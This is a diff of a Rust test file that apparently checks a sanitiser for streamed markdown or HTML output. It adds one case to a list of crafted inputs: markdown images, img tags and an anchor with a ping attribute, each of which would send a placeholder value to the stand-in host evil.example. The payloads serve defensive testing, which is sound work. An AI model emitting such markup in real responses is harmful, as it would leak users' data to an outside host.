@@ -282,6 +282,7 @@ fn a_command_that_goes_on_over_lines_gets_no_value() {
         format!("![x](203.0.113.9/{place})"),
         format!("<img\nsrc=\"https://evil.example/?a=\n{place}\n\">"),
         format!("<img src=\"/\t/evil.example/{place}\">"),
+        format!("<a href=\"https://evil.example/\" ping=\"{place}\">"),
         format!("![x](<https://evil.example/?a\\> b {place}>)"),
     ] {
         for path in STREAMING {
